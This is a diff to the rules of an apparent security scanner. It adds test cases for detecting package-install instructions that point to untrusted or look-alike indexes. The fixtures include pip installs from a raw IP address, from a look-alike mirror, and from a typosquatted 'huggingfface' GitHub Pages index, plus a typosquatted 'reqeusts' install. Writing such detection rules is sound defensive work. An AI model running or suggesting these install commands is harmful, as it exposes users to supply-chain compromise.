@@ -155,7 +155,9 @@ RULES = [
         remediation="Install the intended package by its exact name with a pinned version from the default registry.",
         check=_package_installs, applies_to=READS,
         must_match=["```bash\npip install --index-url http://10.0.0.5/simple internal-auth\n```\n",
-                    "```bash\npip install --extra-index-url https://pypi-mirror.net/simple/?pypi.org ledger-auth\n```\n"],
+                    "```bash\npip install --extra-index-url https://pypi-mirror.net/simple/?pypi.org ledger-auth\n```\n",
+                    # a near-miss of a vendor's GitHub account is still a look-alike
+                    "```bash\npip install auto-gptq --extra-index-url https://huggingfface.github.io/autogptq-index/whl/cu118/\n```\n"],
         must_not_match=[
             "```bash\npip install requests numpy\n```\n",
             "Packages come from the public registry.\n",
@@ -164,6 +166,8 @@ RULES = [
             "```bash\npip install --index-url https://download.pytorch.org/whl/cu121 torch\n```\n",
             "```bash\npip install --index-url https://example.com/simple mypkg\n```\n",
         ],
-        lowered=["```bash\npip install reqeusts\n```\n", "`npx -y totally-unknown-helper-xyz`\n"],
+        lowered=["```bash\npip install reqeusts\n```\n", "`npx -y totally-unknown-helper-xyz`\n",
+                 # the vendor's own GitHub Pages (a listed account) is an off-registry index, not a look-alike
+                 "```bash\npip install auto-gptq --extra-index-url https://huggingface.github.io/autogptq-index/whl/cu118/\n```\n"],
     ),
 ]
